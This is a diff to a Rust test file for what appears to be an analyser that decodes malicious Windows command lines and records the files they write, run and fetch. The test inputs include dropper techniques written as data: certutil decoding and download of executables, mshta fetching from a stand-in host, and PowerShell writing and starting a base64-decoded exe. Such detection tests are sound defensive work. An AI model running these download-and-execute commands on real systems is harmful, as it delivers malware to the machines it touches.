@@ -24,7 +24,7 @@ fn run(target: &str) -> Fact {
 }
 
 fn write(path: &str, text: &str) -> Fact {
-    Fact::Write { path: path.to_owned(), text: text.to_owned() }
+    Fact::Write { path: path.to_owned(), bytes: text.into() }
 }
 
 #[track_caller]
@@ -143,7 +143,7 @@ fn pieces_that_echo_writes_join_by_path_and_run() {
 fn files_that_macros_wrote_are_decoded_and_run() {
     let mut desk = Desk::new();
     let decoded = with_cx(|cx| {
-        desk.write("sheet.txt", "72 65 67 73 76 72 33 32 20 61", false, cx).unwrap();
+        desk.write("sheet.txt", b"72 65 67 73 76 72 33 32 20 61", cx).unwrap();
         desk.read("cmd /c certutil -f -decodehex sheet.txt x.cmd&start /b x.cmd", cx).unwrap()
     });
     assert_eq!(decoded.facts, [write("x.cmd", "regsvr32 a"), run("x.cmd"), run("regsvr32 a")]);
@@ -152,8 +152,7 @@ fn files_that_macros_wrote_are_decoded_and_run() {
     let decoded = with_cx(|cx| {
         desk.write(
             "a.vbs",
-            "CreateObject(\"WScript.Shell\").Run \"cmd /c mshta http://files.invalid/x\"",
-            false,
+            b"CreateObject(\"WScript.Shell\").Run \"cmd /c mshta http://files.invalid/x\"",
             cx,
         )
         .unwrap();
@@ -166,6 +165,44 @@ fn files_that_macros_wrote_are_decoded_and_run() {
             run("mshta http://files.invalid/x"),
             fetch("http://files.invalid/x", None)
         ]
+    );
+}
+
+#[test]
+fn a_decoded_file_keeps_its_bytes() {
+    let program: Vec<u8> = (0..=255).collect();
+    let bytes = |path: &str| Fact::Write { path: path.to_owned(), bytes: program.clone() };
+    let code = base64_of(&program);
+    let mut desk = Desk::new();
+    let facts = with_cx(|cx| {
+        desk.write("a.txt", format!("-----BEGIN-----\r\n{code}").as_bytes(), cx).unwrap();
+        desk.read("cmd /c certutil -decode a.txt a.exe&copy /b a.exe+a.exe b.exe&start a.exe", cx)
+            .unwrap()
+            .facts
+    });
+    let twice = Fact::Write { path: "b.exe".to_owned(), bytes: [program.as_slice(); 2].concat() };
+    assert_eq!(facts, [bytes("a.exe"), twice, run("a.exe")]);
+    does(
+        &format!(
+            "powershell [IO.File]::WriteAllBytes(\"$env:TEMP\\a.exe\",[Convert]::FromBase64String('{code}'));&'%TEMP%\\a.exe'"
+        ),
+        &[bytes("$env:TEMP\\a.exe"), run("%TEMP%\\a.exe")],
+    );
+    does(
+        &format!("powershell sc a.exe -Encoding Byte -Value ([Convert]::FromBase64String('{code}'))"),
+        &[bytes("a.exe")],
+    );
+}
+
+#[test]
+fn what_powershell_writes_is_run() {
+    does(
+        "powershell -c 'regsvr32 /s b.ocx'|Out-File -Encoding ascii a.bat;start-process a.bat",
+        &[write("a.bat", "regsvr32 /s b.ocx\r\n"), run("a.bat"), run("regsvr32 /s b.ocx")],
+    );
+    does(
+        "powershell -c sc $env:TEMP\\a.cmd 'regsvr32 /s b.ocx';cmd /c %temp%\\a.cmd",
+        &[write("$env:TEMP\\a.cmd", "regsvr32 /s b.ocx\r\n"), run("%temp%\\a.cmd"), run("regsvr32 /s b.ocx")],
     );
 }
 
@@ -401,7 +438,7 @@ fn a_file_that_a_macro_wrote_is_run_by_its_name() {
     let decoded = with_cx(|cx| {
         let mut desk = Desk::new();
         let lines = "set u=http://files.invalid/a\r\ncertutil -urlcache -f %u% a.dll\r\n";
-        desk.write("..\\oxnv1.bat", lines, false, cx)?;
+        desk.write("..\\oxnv1.bat", lines.as_bytes(), cx)?;
         desk.read_in("..\\oxnv1.bat", cx)
     });
     let facts = decoded.unwrap().facts;
